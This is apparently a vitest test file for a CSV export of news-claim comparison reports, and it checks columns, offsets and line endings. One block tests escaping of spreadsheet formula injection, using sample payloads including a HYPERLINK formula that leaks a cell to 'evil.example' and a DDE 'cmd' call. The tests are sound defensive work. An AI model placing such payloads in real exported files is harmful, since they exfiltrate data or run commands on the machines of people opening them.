import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ContrastReport } from "../../src/model/report.ts";
import { toCsv } from "../../src/render/csv.ts";
import { withoutControls } from "../../src/text/controls.ts";
import { ferryReport } from "../fixtures/report.ts";

/** Reads CSV as another program does: one object a row. */
function read(csv: string): Record<string, string>[] {
  return parse(csv, { columns: true, record_delimiter: "\r\n", relax_quotes: false });
}

function withFirstAssertion(more: object): ContrastReport {
  const [first, ...rest] = ferryReport.assertions;
  return { ...ferryReport, assertions: [{ ...first!, ...more }, ...rest] };
}

describe("toCsv(report)", () => {
  const rows = read(toCsv(ferryReport));
  const row = (id: string) => rows.find((each) => each.id === id)!;

  it("writes one row an assertion, in the report's order", () => {
    expect(rows.map((each) => each.id)).toEqual(ferryReport.assertions.map((assertion) => assertion.id));
  });
  it("names publisher, holder, speaker as worded, act and chain", () => {
    expect(row("injured-dahl")).toMatchObject({
      publisher: "Harbour Courier",
      publisher_id: "courier",
      date: "2026-03-04",
      url: "https://courier.example/ferry?id=1&lang=en",
      holder: "Ilse Dahl",
      holder_id: "dahl",
      speaker: "Harbour master Ilse Dahl",
      act: "assert",
      chain: "Ilse Dahl (assert)",
      mode: "indirect",
      as_of: "2026-03-04",
      issue: "number of people injured",
      issue_status: "contested",
      position: "23 people were injured",
    });
    expect(row("injured-sahil")).toMatchObject({
      holder: "",
      speaker: "مدير المستشفى",
      chain: "مدير المستشفى (assert)",
    });
  });
  it("gives the publisher as holder of its own narration", () => {
    expect(row("injured-meridian")).toMatchObject({ holder_id: "meridian", speaker: "", act: "", chain: "" });
  });
  it("gives the holder that a person ruled", () => {
    const ruling = { kind: "holder", assertions: ["injured-sahil"], holder: "union", author: "A", date: "2026-03-06" };
    const ruled = read(toCsv({ ...ferryReport, decisions: [ruling] } as ContrastReport));
    expect(ruled.find(({ id }) => id === "injured-sahil")).toMatchObject({
      holder_id: "union",
      speaker: "مدير المستشفى",
    });
  });
  it("gives offsets by which the quotation is found again", () => {
    for (const each of rows.filter((claim) => claim.spans !== "")) {
      const text = ferryReport.accounts.find((account) => account.id === each.account)!.text!;
      const pieces = each.spans!.split("; ").map((span) => span.split(":").map(Number));
      expect(pieces.map(([start, end]) => text.slice(start, end)).join(" … ")).toBe(each.quote);
      expect([Number(each.start), Number(each.end)]).toEqual([pieces[0]![0], pieces.at(-1)![1]]);
    }
    expect(row("left-authority")).toMatchObject({ quote: "", start: "", end: "", spans: "" });
  });
  it("writes one row a contrast, with both assertions, the reason and the deciding gate", () => {
    const contrasts = read(toCsv(ferryReport, { table: "contrasts" }));
    expect(contrasts.map((each) => each.id)).toEqual(ferryReport.contrasts.map((contrast) => contrast.id));
    expect(contrasts[4]).toMatchObject({
      relation: "contradicts",
      kinds: "negation; responsibility",
      gate: "negation",
      confidence: "0.9",
      same_holder: "false",
      issue_id: "engine",
      a_holder: "Ilse Dahl",
      b_holder: "Norlys Lines",
      b_url: "https://courier.example/ferry?id=1&lang=en",
    });
  });
  it("ends lines by CRLF and begins with a byte order mark only when asked", () => {
    expect(toCsv(ferryReport)).toMatch(/^"id",.*\r\n"struck-courier"/);
    expect(toCsv(ferryReport, { bom: true }).startsWith('\uFEFF"id"')).toBe(true);
    expect(toCsv(ferryReport).endsWith("\r\n")).toBe(true);
  });
  it("writes a header for a report without assertions or contrasts", () => {
    const empty = { ...ferryReport, assertions: [], contrasts: [], issues: [] };
    expect(toCsv(empty).split("\r\n")).toHaveLength(2);
    expect(toCsv(empty, { table: "contrasts" }).split("\r\n")).toHaveLength(2);
  });
});

describe("toCsv(report) with hostile text", () => {
  it.each([
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
  ])("puts an apostrophe in front of the formula %j", (text) => {
    expect(read(toCsv(withFirstAssertion({ text })))[0]!.text).toBe(`'${text}`);
  });
  it("puts it there too where a control code stands before the formula", () => {
    const codes = Array.from({ length: 160 }, (_, code) => String.fromCharCode(code)).filter((sign) =>
      /\p{Cc}/u.test(sign),
    );
    const bare = codes.filter(
      (code) => !read(toCsv(withFirstAssertion({ text: `${code}=1+1` })))[0]!.text!.startsWith("'"),
    );
    expect(bare).toEqual([]);
  });
  it.each(["a-b", "1,200", "12 = 12", "you@example.org", "\u2212 5", "'quoted'"])("leaves %j as it is", (text) => {
    expect(read(toCsv(withFirstAssertion({ text })))[0]!.text).toBe(text);
  });
  it("escapes formulas in every field of a dossier, in both tables", () => {
    const evil = "=cmd|' /C calc'!A0";
    const report: ContrastReport = {
      ...ferryReport,
      sources: ferryReport.sources.map((source) => ({ ...source, name: evil })),
      accounts: ferryReport.accounts.map((account) => ({ ...account, title: evil, url: evil, language: evil })),
      issues: ferryReport.issues.map((issue) => ({ ...issue, label: evil })),
      contrasts: ferryReport.contrasts.map((contrast) => ({ ...contrast, because: evil })),
    };
    for (const table of ["assertions", "contrasts"] as const) {
      const cells = read(toCsv(report, { table })).flatMap((each) => Object.values(each));
      expect(cells.filter((value) => /^[=+\-@\t\r\n]/.test(value))).toEqual([]);
      expect(cells).toContain(`'${evil}`);
    }
  });
  it("gives any text but its control codes back through a CSV parser", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", minLength: 1 }), (text) => {
        const back = read(toCsv(withFirstAssertion({ text })))[0]!.text!;
        expect([text, `'${text}`].map(withoutControls)).toContain(back);
        expect(back).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
      { seed: 7, numRuns: 300 },
    );
  });
});
